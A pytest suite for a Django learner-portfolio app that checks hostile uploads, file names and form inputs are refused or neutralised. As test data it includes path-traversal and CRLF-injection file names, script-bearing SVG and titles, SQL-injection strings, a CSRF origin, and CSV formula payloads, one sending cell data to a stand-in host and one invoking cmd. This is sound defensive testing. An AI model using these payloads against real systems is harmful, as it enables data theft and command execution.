"""Hostile and malformed input, sent through the real pages as a person (or an attacker) would.

Each refused input must come back with a clear message, leave nothing stored (no row, no file) and leave the
app serving. Inputs that are not refused but made harmless (hostile file names, HTML in titles, formulas in
CSV cells) are checked for how they come out: stored under generated names, escaped, neutralised.
"""

import csv
import io
import re
import threading
import uuid
from pathlib import Path

import pytest
from django.conf import settings
from django.core.files.uploadedfile import SimpleUploadedFile
from django.db import connection, connections
from django.test import Client
from django.urls import reverse
from django.utils import timezone

from centres.models import Membership, Role
from portfolio.models import Evidence, EvidenceFile, EvidenceLink, Registration
from qualifications.models import AssessmentCriterion, AssessmentMethod
from tests import samples
from tests.security import hostile_files
from tests.security.flows import criteria_of, evidence_for_unit, meet_unit, sign, sign_off_unit
from tracking.models import Signature, SignatureRole


def media_files() -> set[str]:
    root = Path(settings.MEDIA_ROOT)
    return {str(path.relative_to(root)) for path in root.rglob("*") if path.is_file()} if root.exists() else set()


def stored_rows() -> tuple[int, int, int]:
    return Evidence.objects.count(), EvidenceFile.objects.count(), EvidenceLink.objects.count()


def client_for(user, **kwargs) -> Client:
    client = Client(**kwargs)
    client.force_login(user)
    return client


def evidence_post(registration, files, **fields) -> dict:
    data = {
        "title": "My evidence",
        "date": timezone.localdate().isoformat(),
        "description": "",
        "methods": [AssessmentMethod.objects.get(code="PE").pk],
        "submission_token": uuid.uuid4().hex,
        "files": files,
    }
    data.update(fields)
    return data


def alerts(response) -> list[str]:
    """The messages shown at the top of the page."""
    from html import unescape

    found = re.findall(r'<div class="alert alert-[a-z]+"[^>]*>(.*?)</div>', response.content.decode(), re.S)
    return [unescape(text).strip() for text in found]


def alerts_and_errors(response) -> str:
    """The messages and form errors on the page, as text."""
    from html import unescape

    body = response.content.decode()
    found = re.findall(r'class="(?:alert alert-[a-z]+|invalid-feedback[^"]*|errorlist[^"]*)"[^>]*>(.*?)</', body, re.S)
    found += re.findall(r'<span id="error_[^"]*"[^>]*>(.*?)</span>', body, re.S)
    return " ".join(unescape(re.sub("<[^>]+>", " ", text)) for text in found)


def page_text(response) -> str:
    from html import unescape

    return unescape(response.content.decode())


@pytest.fixture
def learner_client(world):
    return client_for(world.learner)


def assert_still_serving(client, registration) -> None:
    response = client.get(reverse("portfolio:registration-portfolio", args=[registration.pk]))
    assert response.status_code == 200


# --- Files -------------------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("name", "content", "content_type", "words"),
    [case[1:] for case in hostile_files.HOSTILE_FILES],
    ids=[case[0] for case in hostile_files.HOSTILE_FILES],
)
def test_hostile_file_is_refused_and_nothing_is_stored(world, learner_client, name, content, content_type, words):
    before_rows, before_files = stored_rows(), media_files()
    upload = SimpleUploadedFile(name, content, content_type=content_type)
    response = learner_client.post(
        reverse("portfolio:evidence-create", args=[world.registration.pk]),
        evidence_post(world.registration, [upload]),
    )
    assert response.status_code == 200, "the form comes back with the refusal"
    text = page_text(response)
    assert "was not accepted" in text and name.split("/")[-1] in text
    assert words in text
    assert stored_rows() == before_rows
    assert media_files() == before_files
    assert_still_serving(learner_client, world.registration)


def _pdf_of_size(size: int) -> bytes:
    base = samples.pdf_bytes()
    header_end = base.index(b"\n") + 1
    padding = size - len(base) - 2
    return base[:header_end] + b"%" + b"x" * padding + b"\n" + base[header_end:]


def test_file_one_byte_over_the_limit_is_refused(world, learner_client, settings):
    settings.EVIDENCE_MAX_FILE_BYTES = 64 * 1024
    before_rows, before_files = stored_rows(), media_files()
    content = _pdf_of_size(64 * 1024 + 1)
    assert len(content) == 64 * 1024 + 1
    response = learner_client.post(
        reverse("portfolio:evidence-create", args=[world.registration.pk]),
        evidence_post(world.registration, [SimpleUploadedFile("big.pdf", content, "application/pdf")]),
    )
    assert response.status_code == 200
    assert "larger than the limit of 64.0\xa0KB" in page_text(response)
    assert stored_rows() == before_rows and media_files() == before_files
    assert_still_serving(learner_client, world.registration)


def test_file_exactly_at_the_limit_is_accepted(world, learner_client, settings):
    settings.EVIDENCE_MAX_FILE_BYTES = 64 * 1024
    content = _pdf_of_size(64 * 1024)
    response = learner_client.post(
        reverse("portfolio:evidence-create", args=[world.registration.pk]),
        evidence_post(world.registration, [SimpleUploadedFile("fits.pdf", content, "application/pdf")]),
    )
    assert response.status_code == 302
    stored = EvidenceFile.objects.get()
    assert stored.size == 64 * 1024 and stored.content_type == "application/pdf"


def test_pdf_with_object_streams_and_no_active_content_is_accepted(world, learner_client):
    response = learner_client.post(
        reverse("portfolio:evidence-create", args=[world.registration.pk]),
        evidence_post(
            world.registration,
            [SimpleUploadedFile("plain.pdf", hostile_files.clean_pikepdf_document(), "application/pdf")],
        ),
    )
    assert response.status_code == 302
    assert EvidenceFile.objects.get().content_type == "application/pdf"


def test_animation_at_the_frame_limit_is_accepted(world, learner_client, settings):
    settings.EVIDENCE_MAX_IMAGE_FRAMES = 50
    response = learner_client.post(
        reverse("portfolio:evidence-create", args=[world.registration.pk]),
        evidence_post(
            world.registration,
            [SimpleUploadedFile("animation.gif", hostile_files.gif_of_frames(50), "image/gif")],
        ),
    )
    assert response.status_code == 302
    assert EvidenceFile.objects.get().content_type == "image/gif"


def test_animation_one_frame_over_the_limit_is_refused_before_decoding(world, learner_client, settings):
    settings.EVIDENCE_MAX_IMAGE_FRAMES = 50
    response = learner_client.post(
        reverse("portfolio:evidence-create", args=[world.registration.pk]),
        evidence_post(
            world.registration,
            [SimpleUploadedFile("animation.gif", hostile_files.gif_of_frames(51), "image/gif")],
        ),
    )
    assert response.status_code == 200
    assert "the animation has 51 frames; at most 50 are accepted" in page_text(response)
    assert EvidenceFile.objects.count() == 0


def test_one_bad_file_among_good_ones_stores_none_of_them(world, learner_client):
    before_rows, before_files = stored_rows(), media_files()
    files = [
        SimpleUploadedFile("good.png", samples.png_bytes(), "image/png"),
        SimpleUploadedFile("good.pdf", samples.pdf_bytes(), "application/pdf"),
        SimpleUploadedFile("bad.svg", b"<svg><script>alert(1)</script></svg>", "image/svg+xml"),
    ]
    response = learner_client.post(
        reverse("portfolio:evidence-create", args=[world.registration.pk]), evidence_post(world.registration, files)
    )
    assert response.status_code == 200 and "“bad.svg” was not accepted" in page_text(response)
    assert stored_rows() == before_rows and media_files() == before_files


HOSTILE_NAMES = [
    ("path-traversal", "../../../../etc/passwd.png", "passwd.png"),
    ("windows-path-traversal", "..\\..\\windows\\system32\\photo.png", "photo.png"),
    ("right-to-left-override", "invoice\u202egpj.png", "invoice"),
    ("device-name-con", "CON.png", "_CON.png"),
    ("device-name-lpt1", "lpt1.png", "_lpt1.png"),
    ("quotes-and-newlines", 'my "best"\r\nContent-Type: text/html\r\n.png', ""),
    ("null-byte", "photo\x00.html.png", "photo"),
]


@pytest.mark.parametrize(("name", "shown"), [c[1:] for c in HOSTILE_NAMES], ids=[c[0] for c in HOSTILE_NAMES])
def test_hostile_file_name_is_stored_under_a_generated_name_and_served_safely(world, learner_client, name, shown):
    response = learner_client.post(
        reverse("portfolio:evidence-create", args=[world.registration.pk]),
        evidence_post(world.registration, [SimpleUploadedFile(name, samples.png_bytes(), "image/png")]),
    )
    assert response.status_code == 302, page_text(response)[:3000]
    stored = EvidenceFile.objects.get()
    assert stored.original_name.startswith(shown)
    assert not set(stored.original_name) & set('/\\"\r\n\x00\u202e<>'), stored.original_name
    # The stored name is generated: nothing of the person's name reaches the file system.
    stored_path = Path(settings.MEDIA_ROOT, stored.file.name).resolve()
    assert Path(settings.MEDIA_ROOT).resolve() in stored_path.parents
    assert ".." not in stored.file.name and "passwd" not in stored.file.name and "CON" not in stored.file.name
    download = learner_client.get(reverse("portfolio:file-download", args=[stored.pk]))
    assert download.status_code == 200
    disposition = download["Content-Disposition"]
    assert "\r" not in disposition and "\n" not in disposition and "\u202e" not in disposition
    assert disposition.count('"') == 2, disposition  # the quoted ASCII fallback only; the person's quotes are gone
    assert download["X-Content-Type-Options"] == "nosniff"


def mp3() -> bytes:
    return b"ID3\x03\x00\x00\x00\x00\x00\x0a" + b"\0" * 10 + b"\xff\xfb\x90\x00" + b"\0" * 400


def test_mp3_named_url_is_stored_and_offered_as_mp3_under_its_shown_name(world, learner_client):
    response = learner_client.post(
        reverse("portfolio:evidence-create", args=[world.registration.pk]),
        evidence_post(world.registration, [SimpleUploadedFile("interview.url", mp3(), "application/octet-stream")]),
    )
    assert response.status_code == 302, page_text(response)[:3000]
    stored = EvidenceFile.objects.get()
    assert stored.original_name == "interview.url", "the name the learner gave is kept for display"
    assert stored.file.name.endswith(".mp3") and stored.content_type == "audio/mpeg"
    download = learner_client.get(reverse("portfolio:file-download", args=[stored.pk]))
    assert download.status_code == 200
    assert download["Content-Type"] == "audio/mpeg"
    assert 'filename="interview.mp3"' in download["Content-Disposition"]
    assert ".url" not in download["Content-Disposition"]


def test_file_whose_name_fits_its_type_is_offered_under_its_own_name(world, learner_client):
    learner_client.post(
        reverse("portfolio:evidence-create", args=[world.registration.pk]),
        evidence_post(world.registration, [SimpleUploadedFile("Interview.MP3", mp3(), "audio/mpeg")]),
    )
    download = learner_client.get(reverse("portfolio:file-download", args=[EvidenceFile.objects.get().pk]))
    assert 'filename="Interview.MP3"' in download["Content-Disposition"]


def test_300_byte_unicode_name_is_shortened(world, learner_client):
    name = "é" * 148 + ".png"  # 300 bytes in UTF-8
    assert len(name.encode()) == 300
    response = learner_client.post(
        reverse("portfolio:evidence-create", args=[world.registration.pk]),
        evidence_post(world.registration, [SimpleUploadedFile(name, samples.png_bytes(), "image/png")]),
    )
    assert response.status_code == 302
    stored = EvidenceFile.objects.get()
    assert len(stored.original_name) <= 150 and stored.original_name.endswith(".png")
    download = learner_client.get(reverse("portfolio:file-download", args=[stored.pk]))
    download["Content-Disposition"].encode("latin-1")  # a header must be plain bytes: no raw non-ASCII


# --- Forms and fields --------------------------------------------------------------------------------------


MALFORMED_FIELDS = [
    ("title-empty", {"title": "   "}, "This field is required"),
    ("title-too-long", {"title": "x" * 201}, "at most 200 characters"),
    ("description-too-long", {"description": "x" * 50_001}, "at most 50000 characters"),
    ("impossible-date", {"date": "2026-02-30"}, "Enter a valid date"),
    ("method-of-nowhere", {"methods": ["999999"]}, "Select a valid choice"),
    ("method-not-a-number", {"methods": ["1 OR 1=1"]}, "“1 OR 1=1” is not a valid value"),
]


@pytest.mark.parametrize(("fields", "message"), [c[1:] for c in MALFORMED_FIELDS], ids=[c[0] for c in MALFORMED_FIELDS])
def test_malformed_evidence_fields_are_refused(world, learner_client, fields, message):
    before_rows, before_files = stored_rows(), media_files()
    response = learner_client.post(
        reverse("portfolio:evidence-create", args=[world.registration.pk]),
        evidence_post(world.registration, [SimpleUploadedFile("ok.png", samples.png_bytes(), "image/png")], **fields),
    )
    assert response.status_code == 200
    assert message in page_text(response)
    assert stored_rows() == before_rows and media_files() == before_files


def test_html_in_titles_is_shown_as_text_in_lists_pages_and_the_pdf(world, learner_client):
    title = '<script>alert("x")</script><b>bold</b>'
    unit = world.registration.plan.first().unit
    evidence = evidence_for_unit(world.registration, unit, title=title)
    assessor = client_for(world.assessor)
    pages = [
        learner_client.get(reverse("portfolio:registration-portfolio", args=[world.registration.pk])),
        learner_client.get(reverse("portfolio:evidence-detail", args=[evidence.pk])),
        assessor.get(reverse("portfolio:assessor-queue")),
        assessor.get(reverse("tracking:sheet", args=[world.registration.pk, unit.pk])),
    ]
    for response in pages:
        assert response.status_code == 200
        body = response.content.decode()
        assert "<script>alert" not in body and "<b>bold</b>" not in body
    assert "&lt;script&gt;alert" in pages[1].content.decode()
    # The PDFs: the unit sheet, and the whole-registration PDF whose index lists every piece of evidence by title.
    sheet_pdf = learner_client.get(reverse("tracking:sheet-pdf", args=[world.registration.pk, unit.pk]))
    assert sheet_pdf.status_code == 200
    assert "&lt;" not in _pdf_text(b"".join(sheet_pdf.streaming_content))
    from tracking.exports import build_registration_pack, registration_pack_html
    from tracking.pdf import render_pdf

    text = _pdf_text(render_pdf(registration_pack_html(build_registration_pack(world.registration))))
    flat = re.sub(r"\s+", "", text)
    assert re.sub(r"\s+", "", title) in flat, "the title is printed as typed"
    assert "&lt;" not in text and "&amp;" not in text


def _pdf_text(data: bytes) -> str:
    from pypdf import PdfReader

    return "\n".join(page.extract_text() or "" for page in PdfReader(io.BytesIO(data)).pages)


def test_formula_in_a_name_is_neutralised_in_the_learner_csv(world):
    world.learner.full_name = '=HYPERLINK("http://evil.example/?x="&A1,"Click")'
    world.learner.save()
    world.registration.uln = ""
    world.registration.save()
    response = client_for(world.admin).get(reverse("portfolio:registration-export"))
    assert response.status_code == 200
    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))
    cells = [cell for row in rows for cell in row]
    assert not any(cell.startswith(("=", "+", "-", "@")) for cell in cells if cell), cells
    assert any("HYPERLINK" in cell for cell in cells)


def test_formula_in_a_name_is_neutralised_in_the_certification_csv(world):
    # A learner who left with a signed-off unit is listed for unit certification.
    sign_off_unit(world.registration, world.registration.plan.order_by("unit__reference").first().unit)
    Registration.objects.filter(pk=world.registration.pk).update(
        status=Registration.Status.WITHDRAWN, status_changed_at=timezone.now(), status_reason="Left the job"
    )
    world.learner.full_name = "@SUM(1+1)*cmd|' /C calc'!A0"
    world.learner.save()
    response = client_for(world.admin).get(reverse("quality:certification-csv", args=[world.centre.pk]))
    assert response.status_code == 200
    cells = [cell for row in csv.reader(io.StringIO(response.content.decode("utf-8-sig"))) for cell in row]
    assert any("SUM(1+1)" in cell for cell in cells), "the learner's row is in the export"
    assert not any(cell.startswith(("=", "+", "-", "@")) for cell in cells if cell), cells


# --- Other people's ids in form fields ---------------------------------------------------------------------


def test_linking_criteria_of_a_unit_not_on_the_plan_is_refused(world, learner_client):
    evidence = evidence_for_unit(world.registration, world.registration.plan.first().unit)
    foreign = AssessmentCriterion.objects.exclude(unit__in=world.registration.units.all()).first()
    links_before = list(evidence.links.values_list("criterion_id", flat=True))
    response = learner_client.post(
        reverse("portfolio:evidence-link", args=[evidence.pk]),
        {"criteria": [*links_before, foreign.pk]},
        follow=True,
    )
    assert "not on this learner's plan" in page_text(response)
    assert list(evidence.links.values_list("criterion_id", flat=True)) == links_before


def test_criterion_ids_that_are_not_numbers_are_refused(world, learner_client):
    evidence = evidence_for_unit(world.registration, world.registration.plan.first().unit)
    before = stored_rows()
    response = learner_client.post(
        reverse("portfolio:evidence-link", args=[evidence.pk]), {"criteria": ["1; DROP TABLE x"]}, follow=True
    )
    assert "not on this learner's plan" in page_text(response)
    assert stored_rows() == before


def test_another_learners_evidence_id_is_a_404(world, learner_client):
    other = evidence_for_unit(world.other_registration, world.other_registration.plan.first().unit)
    for name in ("portfolio:evidence-detail", "portfolio:evidence-link", "portfolio:evidence-files"):
        assert learner_client.get(reverse(name, args=[other.pk])).status_code == 404
    withdraw = reverse("portfolio:evidence-withdraw", args=[other.pk])
    assert learner_client.post(withdraw, {"reason": "x"}).status_code == 404


def test_judging_with_another_learners_link_ids_changes_nothing(world):
    mine = evidence_for_unit(world.registration, world.registration.plan.first().unit)
    theirs = evidence_for_unit(world.other_registration, world.other_registration.plan.first().unit)
    their_link = theirs.links.first()
    response = client_for(world.assessor).post(
        reverse("portfolio:evidence-judge", args=[mine.pk]),
        {f"decision-{their_link.pk}": "accept", f"feedback-{their_link.pk}": "ok"},
        follow=True,
    )
    assert response.status_code in (200, 403, 404)
    their_link.refresh_from_db()
    assert their_link.status == EvidenceLink.Status.PENDING


def test_moving_a_learner_to_another_centres_assessor_is_refused(world):
    client = client_for(world.admin)
    response = client.post(
        reverse("portfolio:registration-move", args=[world.registration.pk]),
        {"assessor": world.other_centre_assessor.pk, "reason": "Trying another centre's assessor"},
    )
    assert response.status_code == 200
    assert "that choice is not one of the centre's staff" in page_text(response)
    world.registration.refresh_from_db()
    assert world.registration.assessor_id == world.assessor.pk


def test_sharing_another_centres_learner_with_an_eqa_is_refused(world):
    from portfolio.models import EqaShare

    response = client_for(world.admin).post(
        reverse("quality:share-create", args=[world.centre.pk]),
        {
            "eqa": world.eqa.pk,
            "starts_on": timezone.localdate().isoformat(),
            "ends_on": (timezone.localdate() + timezone.timedelta(days=10)).isoformat(),
            "items": [f"{world.other_centre_registration.pk}"],
            "registrations": [world.other_centre_registration.pk],
        },
    )
    assert response.status_code in (200, 404)
    assert not EqaShare.objects.exists()


def test_signing_another_learners_sheet_is_a_404(world, learner_client):
    unit = world.other_registration.plan.first().unit
    response = learner_client.post(
        reverse("tracking:sign", args=[world.other_registration.pk, unit.pk]), {"role": "learner", "content_hash": "x"}
    )
    assert response.status_code == 404
    assert not Signature.objects.exists()


# --- CSRF --------------------------------------------------------------------------------------------------


def test_forged_cross_site_post_is_refused(world):
    client = client_for(world.learner, enforce_csrf_checks=True)
    before_rows, before_files = stored_rows(), media_files()
    upload = SimpleUploadedFile("photo.png", samples.png_bytes(), "image/png")
    response = client.post(
        reverse("portfolio:evidence-create", args=[world.registration.pk]),
        evidence_post(world.registration, [upload]),
        HTTP_ORIGIN="https://evil.example",
    )
    assert response.status_code == 403
    assert stored_rows() == before_rows and media_files() == before_files
    unit = world.registration.plan.first().unit
    response = client.post(reverse("tracking:sign", args=[world.registration.pk, unit.pk]), {"role": "learner"})
    assert response.status_code == 403
    assert not Signature.objects.exists()


# --- Order and timing of sign-off --------------------------------------------------------------------------


def test_editing_evidence_after_sign_off_is_refused(world, learner_client):
    unit = world.registration.plan.first().unit
    evidence = sign_off_unit(world.registration, unit)
    links_before = sorted(evidence.links.values_list("criterion_id", "status"))
    rows_before, files_before = stored_rows(), media_files()

    def photo():
        return SimpleUploadedFile("late.png", samples.png_bytes(), "image/png")

    attempts = [
        ("portfolio:evidence-withdraw", {"reason": "Changing my mind"}, "This unit is locked for sign-off"),
        ("portfolio:evidence-files", {"files": [photo()]}, "Files can be added only before the evidence is submitted"),
        (
            "portfolio:evidence-new-version",
            evidence_post(world.registration, [photo()], keep_files="on"),
            "A new version can be added only when the assessor has rejected the evidence",
        ),
    ]
    for name, data, message in attempts:
        response = learner_client.post(reverse(name, args=[evidence.pk]), data, follow=True)
        assert response.status_code == 200
        assert message in page_text(response), name
    evidence.refresh_from_db()
    assert evidence.status == Evidence.Status.SUBMITTED
    assert sorted(evidence.links.values_list("criterion_id", "status")) == links_before
    assert stored_rows() == rows_before and media_files() == files_before
    # The assessor cannot unmark a criterion either.
    criterion = criteria_of(world.registration, unit)[0]
    response = client_for(world.assessor).post(
        reverse("portfolio:criterion-decide", args=[world.registration.pk, criterion.pk]), {"action": "unmark"}
    )
    assert response.status_code in (302, 403)
    assert world.registration.decisions.filter(criterion=criterion, is_met=True).exists()


def test_iqa_cannot_sign_before_the_assessor(world):
    unit = world.registration.plan.first().unit
    meet_unit(world.registration, unit)
    sign(world.registration, unit, world.learner, SignatureRole.LEARNER)
    client = client_for(world.iqa)
    sheet_url = reverse("tracking:sheet", args=[world.registration.pk, unit.pk])
    from tracking.sheets import build_sheet

    content_hash = build_sheet(world.registration, unit).state.content_hash
    response = client.post(
        reverse("tracking:sign", args=[world.registration.pk, unit.pk]),
        {"role": "iqa", "content_hash": content_hash},
        follow=True,
    )
    assert response.redirect_chain[-1][0] == sheet_url
    assert "has still to sign" in page_text(response) or "assessor" in page_text(response).lower()
    assert not Signature.objects.filter(role=SignatureRole.IQA).exists()


def test_signing_twice_from_a_stale_page_gives_one_signature(world):
    """The same sign-off posted twice (a double click, a second tab): one signature, then a message."""
    unit = world.registration.plan.first().unit
    meet_unit(world.registration, unit)
    sign(world.registration, unit, world.learner, SignatureRole.LEARNER)
    from tracking.sheets import build_sheet

    content_hash = build_sheet(world.registration, unit).state.content_hash
    client = client_for(world.assessor)
    url = reverse("tracking:sign", args=[world.registration.pk, unit.pk])
    first, second = (
        " ".join(str(m) for m in client.post(url, data, follow=True).context["messages"])
        for data in [{"role": "assessor", "content_hash": content_hash}] * 2
    )
    assert "You signed" in first
    assert "already signed" in second or "changed while you were reading" in second
    assert Signature.objects.filter(role=SignatureRole.ASSESSOR, voided_at__isnull=True).count() == 1


@pytest.mark.postgres
@pytest.mark.django_db(transaction=True)
def test_two_sign_offs_at_the_same_moment_give_one_signature(catalogue):
    """Two requests sign the same sheet as the assessor at once: exactly one signature, the other a message."""
    from tests.factories import build_world

    if connection.vendor != "postgresql":
        pytest.skip("Concurrent requests are tested on PostgreSQL (CI); SQLite serialises every write.")
    world = build_world()
    unit = world.registration.plan.first().unit
    meet_unit(world.registration, unit)
    sign(world.registration, unit, world.learner, SignatureRole.LEARNER)
    from tracking.sheets import build_sheet

    content_hash = build_sheet(world.registration, unit).state.content_hash
    url = reverse("tracking:sign", args=[world.registration.pk, unit.pk])
    barrier = threading.Barrier(2)
    results: list = []

    def attempt():
        try:
            client = client_for(world.assessor)
            barrier.wait(timeout=10)
            response = client.post(url, {"role": "assessor", "content_hash": content_hash}, follow=True)
            # Read the messages from the page: the test client's response.context is not thread-safe.
            results.append(" ".join(alerts(response)))
        finally:
            connections.close_all()

    threads = [threading.Thread(target=attempt) for _ in range(2)]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join(timeout=60)
    assert len(results) == 2
    live = Signature.objects.filter(role=SignatureRole.ASSESSOR, voided_at__isnull=True)
    assert live.count() == 1
    assert sum("You signed" in text for text in results) == 1
    assert sum("already signed" in text for text in results) == 1


def test_withdrawn_registration_cannot_take_new_evidence(world, learner_client):
    Registration.objects.filter(pk=world.registration.pk).update(status=Registration.Status.WITHDRAWN)
    before_rows, before_files = stored_rows(), media_files()
    response = learner_client.post(
        reverse("portfolio:evidence-create", args=[world.registration.pk]),
        evidence_post(world.registration, [SimpleUploadedFile("p.png", samples.png_bytes(), "image/png")]),
        follow=True,
    )
    assert response.status_code in (200, 403)
    assert stored_rows() == before_rows and media_files() == before_files


def test_a_trainee_cannot_countersign_their_own_decision(world):
    unit = world.trainee_registration.plan.first().unit
    evidence = evidence_for_unit(world.trainee_registration, unit)
    from portfolio.services.judgement import judge_link

    link = evidence.links.first()
    judge_link(actor=world.trainee, link=link, accepted=True, feedback="Good")
    response = client_for(world.trainee).post(
        reverse("portfolio:countersign", args=["link", link.pk]), {"outcome": "confirm", "note": "Me"}
    )
    assert response.status_code in (403, 404)
    link.refresh_from_db()
    assert link.countersign_status == "awaiting"
    assert Membership.objects.filter(user=world.trainee, role=Role.ASSESSOR).exists()


def _other_centre_iqa(world):
    return world.other_centre_registration.iqa


FOREIGN_IDS = [
    (
        "registration-with-another-centres-assessor-and-iqa",
        "admin",
        "portfolio:registration-create",
        lambda w: {"centre_id": w.centre.pk},
        lambda w: {
            "qualification": w.registration.qualification_id,
            "full_name": "Foreign Staff",
            "email": "foreign@example.test",
            "date_of_birth": "2000-01-01",
            "start_date": timezone.localdate().isoformat(),
            "planned_end_date": (timezone.localdate() + timezone.timedelta(days=200)).isoformat(),
            "assessor": w.other_centre_assessor.pk,
            "iqa": _other_centre_iqa(w).pk,
        },
        lambda: Registration.objects.count(),
    ),
    (
        "interest-with-another-centres-learner",
        "admin",
        "centres:interest-list",
        lambda w: {"centre_id": w.centre.pk},
        lambda w: {"staff": w.assessor.pk, "learner": w.other_centre_registration.learner_id, "description": "x"},
        lambda: __import__("centres.models", fromlist=["PersonalInterest"]).PersonalInterest.objects.count(),
    ),
    (
        "sampling-plan-at-another-centre",
        "iqa",
        "quality:plan-create",
        lambda w: {},
        lambda w: {
            "centre": w.other_centre.pk,
            "qualification": w.registration.qualification_id,
            "period_start": timezone.localdate().isoformat(),
            "period_end": (timezone.localdate() + timezone.timedelta(days=90)).isoformat(),
        },
        lambda: __import__("quality.models", fromlist=["SamplingPlan"]).SamplingPlan.objects.count(),
    ),
    (
        "countersign-another-centres-decision",
        "assessor",
        "portfolio:countersign",
        lambda w: {"kind": "link", "pk": _foreign_link(w).pk},
        lambda w: {"outcome": "confirm", "note": "x"},
        lambda: EvidenceLink.objects.filter(countersign_status="confirmed").count(),
    ),
    (
        "claim-for-another-centres-learner",
        "admin",
        "quality:claim-create",
        lambda w: {"pk": w.other_centre_registration.pk},
        lambda w: {"kind": "unit", "units": [w.other_centre_registration.plan.first().unit_id]},
        lambda: __import__("quality.models", fromlist=["CertificationClaim"]).CertificationClaim.objects.count(),
    ),
]


def _foreign_link(world):
    evidence = evidence_for_unit(world.other_centre_registration, world.other_centre_registration.plan.first().unit)
    return evidence.links.first()


@pytest.mark.parametrize(
    ("actor", "name", "kwargs", "data", "count"), [c[1:] for c in FOREIGN_IDS], ids=[c[0] for c in FOREIGN_IDS]
)
def test_another_centres_ids_in_form_fields_are_refused(world, actor, name, kwargs, data, count):
    client = client_for(getattr(world, actor))
    url_kwargs, payload = kwargs(world), data(world)
    before = count()
    response = client.post(reverse(name, kwargs=url_kwargs), payload)
    assert response.status_code in (200, 404), response.status_code
    if response.status_code == 200:
        assert re.search(r"not one of|valid choice|registered at this centre|centre", alerts_and_errors(response)), (
            "a clear message"
        )
    assert count() == before
